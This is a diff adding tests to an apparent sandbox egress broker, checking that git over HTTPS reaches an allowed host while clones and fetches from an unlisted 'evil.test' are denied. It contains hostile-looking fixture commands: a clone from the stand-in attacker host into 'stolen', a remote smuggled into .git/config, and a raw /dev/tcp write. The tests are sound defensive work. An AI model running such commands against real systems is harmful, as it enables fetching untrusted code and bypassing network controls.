@@ -12,8 +12,8 @@ use execkit_runner::Session;
 use std::io::{Read, Write};
 use std::sync::{Arc, Mutex};
 
-/// The default set, with `registry.test` a package registry on a private address the
-/// operator allows, `meta.test` allowed by name but resolving to the metadata address, and
+/// The default set, with `registry.test` a package registry and `git.test` a git host on
+/// a private address the operator allows, `meta.test` allowed by name but resolving to the metadata address, and
 /// `sneaky.test` allowed by name but resolving to loopback without the operator's leave.
 fn policies() -> Arc<Engine> {
     let set = execkit_policies::DEFAULT;
@@ -25,8 +25,8 @@ fn policies() -> Arc<Engine> {
         }
         let add: &[&str] = match id.as_str() {
             "package-registries" => &["registry.test"],
-            "egress-allowed" => &["registry.test", "meta.test", "sneaky.test"],
-            "private-hosts" => &["registry.test", "meta.test"],
+            "egress-allowed" => &["registry.test", "meta.test", "sneaky.test", "git.test"],
+            "private-hosts" => &["registry.test", "meta.test", "git.test"],
             _ => &[],
         };
         let pats = e["attrs"]["patterns"].as_array_mut().unwrap();
@@ -62,7 +62,7 @@ fn server(body: &'static str) -> u16 {
 
 async fn brokered(ws: &Workspace, log: Option<Arc<Mutex<AuditLog>>>) -> Session {
     let mut egress = EgressConfig::default();
-    for h in ["registry.test", "evil.test", "sneaky.test"] {
+    for h in ["registry.test", "evil.test", "sneaky.test", "git.test"] {
         egress.hosts.insert(h.into(), "127.0.0.1".parse().unwrap());
     }
     egress
@@ -293,4 +293,135 @@ async fn programs_that_ignore_the_proxy_reach_nothing() {
     let r = run(&s, &format!("echo x > /dev/tcp/127.0.0.1/{port}")).await;
     assert_ne!(r.exit_code, Some(0), "{r:?}");
     s.close().await;
+}
+
+/// A git server over HTTPS on this machine: `git http-backend` behind Python's TLS
+/// server, with a self-signed certificate for `git.test` and `evil.test`.
+const GIT_HTTPS_SERVER: &str = r#"
+import http.server, os, ssl, subprocess, sys
+root, cert, key, portfile = sys.argv[1:5]
+class Git(http.server.BaseHTTPRequestHandler):
+    def do_GET(self): self.backend()
+    def do_POST(self): self.backend()
+    def log_message(self, *a): pass
+    def backend(self):
+        path, _, query = self.path.partition("?")
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n) if n else b""
+        env = dict(os.environ, GIT_PROJECT_ROOT=root, GIT_HTTP_EXPORT_ALL="1",
+                   PATH_INFO=path, QUERY_STRING=query, REQUEST_METHOD=self.command,
+                   CONTENT_TYPE=self.headers.get("Content-Type", ""),
+                   CONTENT_LENGTH=str(len(body)), REMOTE_ADDR="127.0.0.1",
+                   HTTP_CONTENT_ENCODING=self.headers.get("Content-Encoding", ""),
+                   HTTP_GIT_PROTOCOL=self.headers.get("Git-Protocol", ""))
+        out = subprocess.run(["git", "http-backend"], input=body, env=env,
+                             capture_output=True).stdout
+        sep = b"\r\n\r\n" if b"\r\n\r\n" in out else b"\n\n"
+        head, _, rest = out.partition(sep)
+        status, headers = 200, []
+        for line in head.decode().splitlines():
+            k, _, v = line.partition(":")
+            if k.lower() == "status":
+                status = int(v.split()[0])
+            elif k:
+                headers.append((k, v.strip()))
+        self.send_response(status)
+        for k, v in headers:
+            self.send_header(k, v)
+        self.send_header("Content-Length", str(len(rest)))
+        self.end_headers()
+        self.wfile.write(rest)
+srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Git)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
+open(portfile, "w").write(str(srv.server_address[1]))
+srv.serve_forever()
+"#;
+
+/// Starts [`GIT_HTTPS_SERVER`] over a bare repository with one commit (`first`) in
+/// `dir`; returns the server, its port and its certificate.
+fn git_https(dir: &std::path::Path) -> (std::process::Child, u16, std::path::PathBuf) {
+    let sh = |cmd: &str| {
+        let st = std::process::Command::new("sh")
+            .args(["-c", cmd])
+            .current_dir(dir)
+            .status()
+            .unwrap();
+        assert!(st.success(), "{cmd}");
+    };
+    sh("git init -q src && git -C src -c user.name=t -c user.email=t@t.test commit -q --allow-empty -m first && git clone -q --bare src repo.git");
+    sh("openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 1 -subj /CN=git.test -addext subjectAltName=DNS:git.test,DNS:evil.test 2>/dev/null");
+    std::fs::write(dir.join("server.py"), GIT_HTTPS_SERVER).unwrap();
+    let child = std::process::Command::new("python3")
+        .arg(dir.join("server.py"))
+        .args(["."])
+        .arg(dir.join("cert.pem"))
+        .arg(dir.join("key.pem"))
+        .arg(dir.join("port"))
+        .current_dir(dir)
+        .spawn()
+        .unwrap();
+    for _ in 0..100 {
+        if let Ok(p) = std::fs::read_to_string(dir.join("port")) {
+            if let Ok(port) = p.trim().parse() {
+                return (child, port, dir.join("cert.pem"));
+            }
+        }
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    panic!("the git server did not start");
+}
+
+#[tokio::test]
+async fn git_clones_over_https_from_a_listed_host_and_is_refused_an_unlisted_one() {
+    let ws = Workspace::new("egress-git");
+    let server_dir = Workspace::new("egress-git-server");
+    let (mut server, port, cert) = git_https(server_dir.path());
+    std::fs::copy(&cert, ws.path().join("ca.pem")).unwrap();
+    let s = brokered(&ws, None).await;
+    // TLS end to end through the broker's tunnel: git checks the server's certificate.
+    let r = ok(
+        &s,
+        &format!("GIT_SSL_CAINFO=ca.pem git clone -q https://git.test:{port}/repo.git cloned && git -C cloned log --format=%s"),
+    )
+    .await;
+    assert_eq!(r.stdout, "first\n", "{r:?}");
+    assert!(r.runtime_denials.is_empty(), "{r:?}");
+    let r = ok(
+        &s,
+        "cd cloned && GIT_SSL_CAINFO=../ca.pem git fetch -q && cd ..",
+    )
+    .await;
+    assert!(r.runtime_denials.is_empty(), "{r:?}");
+    // A clone from an unlisted host named in a script: refused as git starts (the URL is
+    // in its arguments).
+    std::fs::write(
+        ws.path().join("clone.sh"),
+        format!("GIT_SSL_CAINFO=ca.pem git clone -q https://evil.test:{port}/repo.git stolen\n"),
+    )
+    .unwrap();
+    let r = run(&s, "sh clone.sh").await;
+    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    assert!(!ws.path().join("stolen/.git").exists());
+    let d = r.runtime_denials.first().unwrap_or_else(|| panic!("{r:?}"));
+    assert!(d.program.ends_with("git"), "{d:?}");
+    assert!(d.reason.contains("Host::\"evil.test\""), "{d:?}");
+    // A named remote in the repository's config: no word of the command names the host;
+    // git starts its HTTPS helper with the URL, and that start is refused.
+    std::fs::write(
+        ws.path().join("fetch.sh"),
+        format!(
+            "mkdir stolen && cd stolen && git init -q && printf '[remote \"origin\"]\\n\\turl = https://evil.test:{port}/repo.git\\n' >> .git/config && GIT_SSL_CAINFO=../ca.pem git fetch -q origin main\n"
+        ),
+    )
+    .unwrap();
+    let r = run(&s, "sh fetch.sh").await;
+    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    let d = r.runtime_denials.first().unwrap_or_else(|| panic!("{r:?}"));
+    assert!(d.argv.iter().any(|a| a == "remote-https"), "{d:?}");
+    assert!(d.reason.contains("Host::\"evil.test\""), "{d:?}");
+    s.close().await;
+    let _ = server.kill();
+    let _ = server.wait();
 }
